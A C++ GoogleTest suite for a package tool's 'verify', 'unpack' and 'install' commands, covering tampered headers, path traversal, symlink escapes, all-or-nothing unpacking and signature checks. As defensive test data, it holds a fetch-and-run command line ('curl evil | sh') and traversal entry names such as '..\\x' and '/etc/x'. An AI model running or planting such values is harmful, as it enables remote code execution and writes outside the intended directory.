// Tests of the command-line tool: whole-program runs of "qxweb verify" and
// "qxweb unpack" on packages made by hand: stored files from "qxweb compress"
// and "qxweb digest", headers from the header line writers.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <algorithm>
#include <ctime>
#include <filesystem>
#include <functional>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "core/signature/package_signature.h"
#include "core/signature/sha256.h"
#include "core/signature/signing_key.h"
#include "tests/support/header_builder.h"
#include "tests/support/test_support.h"

namespace {

namespace fs = std::filesystem;
using qx::HeaderKey;
using qx_test::HeaderBuilder;
using qx_test::RunCommand;
using qx_test::ShellQuote;

std::string Qxweb() {
  return ShellQuote(qx_test::QxwebPath());
}

// "Key = value" lines that "qxweb compress" prints.
std::map<std::string, std::string> ParsePairs(const std::string& text) {
  std::map<std::string, std::string> pairs;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line)) {
    const size_t eq = line.find(" = ");
    if (eq != std::string::npos) {
      pairs[line.substr(0, eq)] = line.substr(eq + 3);
    }
  }
  return pairs;
}

class QxwebPackageTest : public ::testing::Test {
 protected:
  // Stores |bytes| as the entry |name| (separators "\") through qxweb.
  void Store(const std::string& name, const std::string& bytes, bool unchanged,
             const std::string& date = "12/06/1997", const std::string& time = "10:20:58") {
    const std::string source = dir_ / "source";
    qx_test::WriteFile(source, bytes);
    std::string stored = package_ + "/" + name;
    for (char& c : stored) {
      c = c == '\\' ? '/' : c;
    }
    fs::create_directories(fs::path(stored).parent_path());
    HeaderBuilder::File file;
    file.name = name;
    if (unchanged) {
      fs::copy_file(source, stored, fs::copy_options::overwrite_existing);
      const auto digest = RunCommand(Qxweb() + " digest --key Demo " + ShellQuote(stored));
      ASSERT_EQ(digest.status, 0) << digest.err;
      file.digest = digest.out.substr(0, 32);
      file.length = file.size = static_cast<int64_t>(bytes.size());
    } else {
      const auto run = RunCommand(Qxweb() + " compress --key Demo " + ShellQuote(source) + " " +
                                  ShellQuote(stored));
      ASSERT_EQ(run.status, 0) << run.err;
      auto pairs = ParsePairs(run.out);
      file.digest = pairs["SECURE_MD5"];
      file.length = std::stoll(pairs["Length"]);
      file.size = std::stoll(pairs["Size"]);
    }
    file.time = time;
    file.date = date;
    builder_.AddFile(file);
    contents_[name] = bytes;
  }

  void MakeSample() {
    builder_.Set(HeaderKey::kReadmeFile, "README.TXT").Set(HeaderKey::kLaunchIcon, "art\\run.ico");
    Store("README.TXT", "Read me first.\r\n", true);
    Store("art\\run.ico", qx_test::RandomBytes(766, 9), true);
    builder_.AddComment(" program files");
    Store("bin\\planner", qx_test::RandomBytes(5000, 4) + qx_test::TextBytes(30000, 5), false);
    Store("data\\maps\\office.txt", qx_test::TextBytes(12000, 6), false);
    Store("empty.log", "", false);
    builder_.Write(header_);
  }

  qx_test::CommandResult Verify() { return RunCommand(Qxweb() + " verify " + ShellQuote(header_)); }
  // Installs the package into a cache of the test's own.
  qx_test::CommandResult Install() {
    return RunCommand("XDG_CONFIG_HOME=" + ShellQuote(dir_ / "config") +
                      " XDG_DATA_HOME=" + ShellQuote(dir_ / "data") + " " + Qxweb() +
                      " cache install " + ShellQuote(header_) + " </dev/null");
  }
  qx_test::CommandResult Unpack() {
    return RunCommand(Qxweb() + " unpack " + ShellQuote(header_) + " " + ShellQuote(out_));
  }

  qx_test::TempDir dir_;
  std::string package_ = dir_ / "pkg";
  std::string header_ = dir_ / "pkg/Demo.qxw";
  std::string out_ = dir_ / "out";
  HeaderBuilder builder_;
  std::map<std::string, std::string> contents_;
};

TEST_F(QxwebPackageTest, VerifyAcceptsAHandMadePackage) {
  MakeSample();
  const auto result = Verify();
  EXPECT_EQ(result.status, 0) << result.out << result.err;
  EXPECT_EQ(result.out, header_ + ": verified, 5 stored files\n");
  // The stored members are real gzip members.
  const auto peer = RunCommand("gzip -dc < " + ShellQuote(package_ + "/data/maps/office.txt"));
  EXPECT_EQ(peer.out, contents_["data\\maps\\office.txt"]);
}

TEST_F(QxwebPackageTest, VerifyNamesEveryProblemAndFails) {
  MakeSample();
  std::string bytes = qx_test::ReadFile(package_ + "/bin/planner");
  bytes[bytes.size() / 2] ^= 1;
  qx_test::WriteFile(package_ + "/bin/planner", bytes);
  qx_test::WriteFile(package_ + "/README.TXT", "Read me.\r\n");
  fs::remove(package_ + "/empty.log");
  const auto result = Verify();
  EXPECT_EQ(result.status, 1);
  EXPECT_EQ(result.out,
            "README.TXT: length 10, the header says 16\n"
            "bin\\planner: digest mismatch\n"
            "empty.log: missing\n" +
                header_ + ": 3 problems, 5 stored files\n");
}

TEST_F(QxwebPackageTest, TamperedHeaderIsCorruptAndNotUnpacked) {
  MakeSample();
  std::string text = qx_test::ReadFile(header_);
  text.replace(text.find("Owner: Tarnwick Test"), 20, "Owner: Tarnwick Fake");
  qx_test::WriteFile(header_, text);
  const auto verify = Verify();
  EXPECT_EQ(verify.status, 1);
  EXPECT_EQ(verify.out, header_ + ": corrupt (the header digest does not match)\n" + header_ +
                            ": 1 problem, 5 stored files\n");
  const auto unpack = Unpack();
  EXPECT_EQ(unpack.status, 1);
  EXPECT_FALSE(fs::exists(out_));

  // The command line is not covered by the digest.
  text = builder_.Text();
  text.replace(text.find("CommandLine: "), 13, "CommandLine: other ");
  qx_test::WriteFile(header_, text);
  EXPECT_EQ(Verify().status, 0);

  qx_test::WriteFile(header_, "not a header\r\n");
  const auto junk = Verify();
  EXPECT_EQ(junk.status, 1);
  EXPECT_NE(junk.out.find("not a package header"), std::string::npos);
}

TEST_F(QxwebPackageTest, UnpackExpandsCopiesAndStampsEveryFile) {
  MakeSample();
  const auto result = Unpack();
  ASSERT_EQ(result.status, 0) << result.out << result.err;
  EXPECT_EQ(result.out, header_ + ": unpacked 5 files into " + out_ + "\n");
  for (const auto& [name, bytes] : contents_) {
    std::string path = out_ + "/" + name;
    for (char& c : path) {
      c = c == '\\' ? '/' : c;
    }
    EXPECT_EQ(qx_test::ReadFile(path), bytes) << name;
    struct stat info;
    ASSERT_EQ(::stat(path.c_str(), &info), 0);
    std::tm local{};
    localtime_r(&info.st_mtime, &local);
    EXPECT_EQ(local.tm_year + 1900, 1997) << name;
    EXPECT_EQ(local.tm_mon + 1, 12) << name;
    EXPECT_EQ(local.tm_mday, 6) << name;
    EXPECT_EQ(local.tm_hour * 3600 + local.tm_min * 60 + local.tm_sec, 10 * 3600 + 20 * 60 + 58);
  }
  // Nothing but the entries, and no temporary files left behind.
  int files = 0;
  for (const auto& entry : fs::recursive_directory_iterator(out_)) {
    files += entry.is_regular_file() ? 1 : 0;
  }
  EXPECT_EQ(files, 5);
}

TEST_F(QxwebPackageTest, ADirectoryStandsForTheOnlyHeaderInIt) {
  MakeSample();
  fs::create_directories(package_ + "/folder.qxw");  // a directory is no header
  const std::string empty = dir_ / "empty";
  fs::create_directories(empty);
  struct Case {
    std::string arguments;
    int status;
    std::string out;
    std::string err;
  };
  const auto check = [](const Case& c) {
    const auto result = RunCommand(Qxweb() + " " + c.arguments);
    EXPECT_EQ(result.status, c.status) << c.arguments << "\n" << result.out << result.err;
    EXPECT_EQ(result.out, c.out) << c.arguments;
    EXPECT_EQ(result.err, c.err) << c.arguments;
  };
  const Case one_header[] = {
      {"verify " + ShellQuote(package_), 0, header_ + ": verified, 5 stored files\n", ""},
      {"unpack " + ShellQuote(package_) + " " + ShellQuote(out_), 0,
       header_ + ": unpacked 5 files into " + out_ + "\n", ""},
      {"verify " + ShellQuote(empty), 1, "",
       "qxweb verify: " + empty + ": holds no package header (.qxw)\n"},
  };
  for (const Case& c : one_header) {
    check(c);
  }
  fs::copy_file(header_, package_ + "/Other.QXW");
  const std::string two =
      package_ + ": holds 2 package headers (Demo.qxw, Other.QXW); name one of them\n";
  const Case two_headers[] = {
      {"verify " + ShellQuote(package_), 1, "", "qxweb verify: " + two},
      {"unpack " + ShellQuote(package_) + " " + ShellQuote(dir_ / "out2"), 1, "",
       "qxweb unpack: " + two},
      {"verify " + ShellQuote(package_ + "/Other.QXW"), 0,
       package_ + "/Other.QXW: verified, 5 stored files\n", ""},
  };
  for (const Case& c : two_headers) {
    check(c);
  }
  EXPECT_FALSE(fs::exists(dir_ / "out2"));
}

TEST_F(QxwebPackageTest, UnpackFailureLeavesNoPartFileUnderItsName) {
  // The header promises more bytes than the member expands to; verification
  // cannot see that, so unpacking finds it half way.
  Store("first.txt", "first", false);
  const std::string bytes = qx_test::TextBytes(50000, 8);
  Store("second.txt", bytes, false);
  HeaderBuilder lying;
  for (const char* name : {"first.txt", "second.txt"}) {
    const std::string stored = qx_test::ReadFile(package_ + "/" + name);
    HeaderBuilder::File file;
    file.name = name;
    file.length = static_cast<int64_t>(stored.size());
    file.size = std::string(name) == "second.txt" ? 50001 : 5;
    file.digest = qx_test::KeyedDigest(stored, "Demo");
    lying.AddFile(file);
  }
  lying.Write(header_);
  ASSERT_EQ(Verify().status, 0);
  const auto result = Unpack();
  EXPECT_EQ(result.status, 1);
  EXPECT_EQ(result.out, "second.txt: expands to 50000 bytes, the header says 50001\n" + header_ +
                            ": not unpacked, 1 problem; " + out_ + " is as it was\n");
  // The first file, already expanded, went again with the directory made for it.
  EXPECT_FALSE(fs::exists(out_));
}

TEST_F(QxwebPackageTest, UnsafeNamesAreRefusedBeforeAnythingIsWritten) {
  const std::string outside = dir_ / "x";
  qx_test::WriteFile(outside, "keep");
  Store("good.txt", "good", false);
  for (const char* name : {"..\\x", "a\\..\\..\\x", "/etc/x", "C:x"}) {
    HeaderBuilder::File file;
    file.name = name;
    file.length = file.size = 4;
    builder_.AddFile(file);
  }
  builder_.Write(header_);
  const auto verify = Verify();
  EXPECT_EQ(verify.status, 1);
  for (const char* name : {"..\\x", "a\\..\\..\\x", "/etc/x", "C:x"}) {
    EXPECT_NE(verify.out.find(std::string(name) + ": unsafe name"), std::string::npos) << name;
  }
  const auto unpack = Unpack();
  EXPECT_EQ(unpack.status, 1);
  EXPECT_FALSE(fs::exists(out_));
  EXPECT_EQ(qx_test::ReadFile(outside), "keep");
}

TEST_F(QxwebPackageTest, UnpackDoesNotFollowALinkOutOfTheDestination) {
  Store("sub\\file.txt", "inside", false);
  builder_.Write(header_);
  fs::create_directories(out_);
  fs::create_directories(dir_ / "elsewhere");
  fs::create_directory_symlink(dir_ / "elsewhere", out_ + "/sub");
  const auto result = Unpack();
  EXPECT_EQ(result.status, 1);
  EXPECT_NE(result.out.find("symbolic link"), std::string::npos);
  EXPECT_TRUE(fs::is_empty(dir_ / "elsewhere"));
}

// Every file under |directory| with its bytes.
std::map<std::string, std::string> FilesUnder(const std::string& directory) {
  std::map<std::string, std::string> files;
  for (const auto& entry : fs::recursive_directory_iterator(directory)) {
    if (entry.is_regular_file()) {
      files[entry.path().string()] = qx_test::ReadFile(entry.path());
    }
  }
  return files;
}

TEST_F(QxwebPackageTest, UnpackNeverWritesIntoThePackageDirectory) {
  MakeSample();
  fs::create_directory_symlink(package_, dir_ / "link");
  const auto package = FilesUnder(package_);
  for (const std::string& inside :
       {package_, package_ + "/.", package_ + "//", package_ + "/bin", package_ + "/new/deeper",
        dir_ / "link", dir_ / "link/sub", dir_ / "pkg/../pkg"}) {
    const auto result =
        RunCommand(Qxweb() + " unpack " + ShellQuote(header_) + " " + ShellQuote(inside));
    EXPECT_EQ(result.status, 1) << inside;
    EXPECT_NE(result.err.find("is the package directory or lies inside it"), std::string::npos)
        << inside << result.err;
    EXPECT_EQ(FilesUnder(package_), package) << inside;
  }
  EXPECT_FALSE(fs::exists(package_ + "/new"));

  // From a directory above the package, an entry can lead into it too.
  Store("pkg\\README.TXT", "not the read-me", false);
  builder_.Write(header_);
  const auto with_entry = FilesUnder(package_);
  const auto result =
      RunCommand(Qxweb() + " unpack " + ShellQuote(header_) + " " + ShellQuote(dir_.path()));
  EXPECT_EQ(result.status, 1);
  EXPECT_NE(result.out.find("pkg\\README.TXT: the file would land in the package directory"),
            std::string::npos)
      << result.out;
  EXPECT_EQ(FilesUnder(package_), with_entry);
  EXPECT_FALSE(fs::exists(dir_ / "README.TXT"));
}

// Whatever unpack or install would refuse in a header, verify reports as a
// problem naming the entry; neither of the others then writes anything.
TEST_F(QxwebPackageTest, VerifyNamesEveryEntryUnpackOrInstallRefuses) {
  struct Case {
    const char* what;
    std::function<void()> make;
    std::string problem;  // empty: all three succeed
  };
  const auto unstored = [this](const std::string& name) {
    HeaderBuilder::File file;
    file.name = name;
    file.length = file.size = 1;
    builder_.AddFile(file);
  };
  const Case cases[] = {
      {"a day the month does not have",
       [&] {
         Store("a.txt", "a", false);
         Store("b.txt", "b", false, "02/30/2026", "10:00:00");
       },
       "b.txt: no real date and time to stamp the file with (Date = 02/30/2026; Time = 10:00:00)"},
      {"hour 24", [&] { Store("b.txt", "b", false, "12/06/1997", "24:00:00"); },
       "b.txt: no real date and time"},
      {"one name twice",
       [&] {
         Store("a.txt", "a", false);
         Store("a.txt", "a", false);
       },
       "a.txt: names the same file as another entry or the header"},
      {"one file under either separator",
       [&] {
         Store("d\\x.txt", "x", false);
         Store("d/x.txt", "x", false);
       },
       "d/x.txt: names the same file as another entry or the header"},
      {"the header's own name", [&] { Store("Demo.qxw", "x", true); },
       "Demo.qxw: names the same file as another entry or the header"},
      {"a file where a later entry needs a directory",
       [&] {
         Store("d", "d", false);
         unstored("d\\x.txt");
       },
       "d\\x.txt: needs a directory where another entry or the header names a file"},
      {"a file where an earlier entry needs a directory",
       [&] {
         Store("d\\x.txt", "x", false);
         unstored("d");
       },
       "d: names a file where another entry needs a directory"},
      {"a leap day at the last moment",
       [&] { Store("b.txt", "b", false, "02/29/2024", "23:59:59"); }, ""},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    builder_ = HeaderBuilder();
    fs::remove_all(package_);
    fs::remove_all(out_);
    c.make();
    builder_.Write(header_);
    const auto verify = Verify();
    const auto unpack = Unpack();
    const auto install = Install();
    if (c.problem.empty()) {
      EXPECT_EQ(verify.status, 0) << verify.out;
      EXPECT_EQ(unpack.status, 0) << unpack.out;
      EXPECT_EQ(install.status, 0) << install.err;
      continue;
    }
    EXPECT_EQ(verify.status, 1);
    EXPECT_NE(verify.out.find(c.problem), std::string::npos) << verify.out;
    EXPECT_EQ(unpack.status, 1);
    EXPECT_NE(unpack.out.find(c.problem), std::string::npos) << unpack.out;
    EXPECT_FALSE(fs::exists(out_));
    EXPECT_EQ(install.status, 1);
    EXPECT_NE(install.err.find(c.problem), std::string::npos) << install.err;
  }
}

// Every file and directory under |directory|, a file with its bytes, write
// time and mode. (A directory's own time changes with every name made in it.)
std::map<std::string, std::string> TreeUnder(const std::string& directory) {
  std::map<std::string, std::string> tree;
  for (const auto& entry : fs::recursive_directory_iterator(directory)) {
    std::string& seen = tree[fs::relative(entry.path(), directory).string()];
    if (entry.is_directory()) {
      seen = "directory";
      continue;
    }
    struct stat info {};
    EXPECT_EQ(::lstat(entry.path().c_str(), &info), 0);
    seen = qx_test::ReadFile(entry.path()) + " at " + std::to_string(info.st_mtim.tv_sec) + "." +
           std::to_string(info.st_mtim.tv_nsec) + " mode " + std::to_string(info.st_mode);
  }
  return tree;
}

// Unpacking into a directory that holds files: a run that succeeds replaces
// the files of its entries' names and keeps the others; one that fails
// after some entries expanded leaves the directory as it was.
TEST_F(QxwebPackageTest, UnpackReplacesAllOrNothing) {
  struct Case {
    const char* what;
    std::function<void()> damage;  // to the package or the destination
    std::string failure;           // empty: the run succeeds
  };
  std::map<std::string, int64_t> sizes;
  const Case cases[] = {
      {"every entry expands", [] {}, ""},
      {"the last entry expands to other than its Size", [&] { sizes["z.txt"] = 2; },
       "z.txt: expands to 1 bytes, the header says 2"},
      {"a directory stands where the last entry goes",
       [&] { qx_test::WriteFile(out_ + "/z.txt/inside", "inside"); },
       "z.txt: a directory stands at " + out_ + "/z.txt"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    builder_ = HeaderBuilder();
    contents_.clear();
    sizes.clear();
    fs::remove_all(package_);
    fs::remove_all(out_);
    Store("a.txt", "new a", false);
    Store("new\\deep\\c.txt", "c", false);
    Store("sub\\b.txt", "new b", false);
    Store("z.txt", "z", false);
    qx_test::WriteFile(out_ + "/a.txt", "old a");
    qx_test::WriteFile(out_ + "/keep.txt", "keep");
    qx_test::WriteFile(out_ + "/sub/other.txt", "other");
    ::chmod((out_ + "/a.txt").c_str(), 0640);
    c.damage();
    HeaderBuilder header;
    for (const auto& [name, bytes] : contents_) {
      std::string stored_path = package_ + "/" + name;
      std::replace(stored_path.begin(), stored_path.end(), '\\', '/');
      const std::string stored = qx_test::ReadFile(stored_path);
      HeaderBuilder::File file;
      file.name = name;
      file.length = static_cast<int64_t>(stored.size());
      file.size = sizes.count(name) != 0 ? sizes[name] : static_cast<int64_t>(bytes.size());
      file.digest = qx_test::KeyedDigest(stored, "Demo");
      header.AddFile(file);
    }
    header.Write(header_);
    ASSERT_EQ(Verify().status, 0);
    const auto before = TreeUnder(out_);
    const auto result = Unpack();
    if (!c.failure.empty()) {
      EXPECT_EQ(result.status, 1);
      EXPECT_EQ(result.out, c.failure + "\n" + header_ + ": not unpacked, 1 problem; " + out_ +
                                " is as it was\n");
      EXPECT_EQ(TreeUnder(out_), before);
      continue;
    }
    ASSERT_EQ(result.status, 0) << result.out;
    auto after = TreeUnder(out_);
    EXPECT_EQ(qx_test::ReadFile(out_ + "/a.txt"), "new a");
    struct stat info {};
    ASSERT_EQ(::stat((out_ + "/a.txt").c_str(), &info), 0);
    EXPECT_EQ(info.st_mode & 0777, 0640u);  // the replaced file's permissions
    for (const char* kept : {"keep.txt", "sub/other.txt"}) {
      EXPECT_EQ(after[kept], before.at(kept)) << kept;
    }
    std::vector<std::string> names;
    for (const auto& [name, seen] : after) {
      names.push_back(name);
    }
    EXPECT_EQ(names,
              (std::vector<std::string>{"a.txt", "keep.txt", "new", "new/deep", "new/deep/c.txt",
                                        "sub", "sub/b.txt", "sub/other.txt", "z.txt"}));
  }
}

TEST(QxwebPackageUsage, MissingArgumentsAreUsageErrors) {
  EXPECT_EQ(RunCommand(Qxweb() + " verify").status, 2);
  EXPECT_EQ(RunCommand(Qxweb() + " unpack only-header.qxw").status, 2);
  const auto help = RunCommand(Qxweb() + " unpack --help");
  EXPECT_EQ(help.status, 0);
  EXPECT_NE(help.out.find("DESTDIR"), std::string::npos);
  EXPECT_EQ(RunCommand(Qxweb() + " verify /no/such/header.qxw").status, 1);
}

// A signature beside the header is held against the header's bytes, every
// stored file's bytes and the key asked for; whatever does not match fails
// verify, naming it.
TEST_F(QxwebPackageTest, VerifyHoldsTheSignatureAgainstTheHeaderTheFilesAndTheKey) {
  MakeSample();
  const auto make_key = [&](const std::string& name) {
    const auto made =
        RunCommand("QXWEB_KEY_PASSPHRASE= " + Qxweb() + " key new " + ShellQuote(dir_ / name));
    EXPECT_EQ(made.status, 0) << made.err;
    return qx::LoadSigningKey(dir_ / name, "").value;
  };
  const qx::SigningKey key = make_key("publisher.key");
  const qx::SigningKey other = make_key("other.key");
  const std::string id = qx::KeyId(key.public_key());
  // Signs the package as it is now, leaving out the file |unsigned_name|.
  const auto sign = [&](const qx::SigningKey& with, const std::string& unsigned_name = "") {
    qx::PackageSignature signature;
    signature.sequence = 5;
    signature.header_sha256 = qx::Sha256OfFile(header_).value;
    for (const auto& [name, bytes] : contents_) {
      std::string path = package_ + "/" + name;
      std::replace(path.begin(), path.end(), '\\', '/');
      if (name != unsigned_name) {
        signature.files.push_back(
            {name, static_cast<int64_t>(fs::file_size(path)), qx::Sha256OfFile(path).value});
      }
    }
    const auto text = qx::SignatureText(signature, with);
    ASSERT_TRUE(text.ok()) << text.error;
    qx_test::WriteFile(header_ + ".sig", text.value);
  };
  const std::string original = qx_test::ReadFile(header_);
  const std::string planner = package_ + "/bin/planner";
  const std::string planner_bytes = qx_test::ReadFile(planner);
  struct Row {
    const char* situation;
    std::function<void()> prepare;
    std::string options;
    int status;
    std::string says;
  };
  const std::vector<Row> rows = {
      {"signed, any key", [&] { sign(key); }, "", 0,
       "verified, 5 stored files, signed by key " + id + " (sequence 5)"},
      {"signed, the key asked for by its file", [&] { sign(key); },
       "--key " + ShellQuote(dir_ / "publisher.key.pub"), 0, "signed by key " + id},
      {"signed, the key asked for by its line", [&] { sign(key); },
       "--key " + ShellQuote(qx::PublicKeyLine(key.public_key())), 0, "signed by key " + id},
      {"signed with another key than the one asked for", [&] { sign(other); },
       "--key " + ShellQuote(dir_ / "publisher.key.pub"), 1, "not with the required key " + id},
      {"a key asked for, no signature", [&] { fs::remove(header_ + ".sig"); },
       "--key " + ShellQuote(dir_ / "publisher.key.pub"), 1, "the package is not signed"},
      {"the command line changed and the header digest made anew",
       [&] {
         sign(key);
         HeaderBuilder changed = builder_;
         changed.Set(HeaderKey::kCommandLine, "sh -c 'curl evil | sh'").Write(header_);
       },
       "", 1, "the header is not the one signed"},
      {"a stored file changed after signing",
       [&] {
         sign(key);
         qx_test::WriteFile(planner, planner_bytes + "x");
       },
       "", 1, "bin\\planner: its stored bytes are not the signed ones"},
      {"a stored file left out of the signature", [&] { sign(key, "empty.log"); }, "", 1,
       "empty.log: not signed"},
      {"the signature cut short",
       [&] {
         sign(key);
         const std::string text = qx_test::ReadFile(header_ + ".sig");
         qx_test::WriteFile(header_ + ".sig", text.substr(0, text.size() / 2));
       },
       "", 1, "Demo.qxw.sig: line"},
      {"two lines of the signature swapped",
       [&] {
         sign(key);
         std::string text = qx_test::ReadFile(header_ + ".sig");
         const size_t first = text.find("\nsequence");
         const size_t second = text.find("\nheader");
         const size_t third = text.find('\n', second + 1);
         text = text.substr(0, first) + text.substr(second, third - second) +
                text.substr(first, second - first) + text.substr(third);
         qx_test::WriteFile(header_ + ".sig", text);
       },
       "", 1, "Demo.qxw.sig: line 3"},
  };
  for (const Row& row : rows) {
    SCOPED_TRACE(row.situation);
    builder_.Write(header_);
    ASSERT_EQ(qx_test::ReadFile(header_), original);
    qx_test::WriteFile(planner, planner_bytes);
    row.prepare();
    const auto result = RunCommand(Qxweb() + " verify " + row.options + " " + ShellQuote(header_));
    EXPECT_EQ(result.status, row.status) << result.out << result.err;
    EXPECT_NE(result.out.find(row.says), std::string::npos) << result.out << result.err;
  }
}

}  // namespace
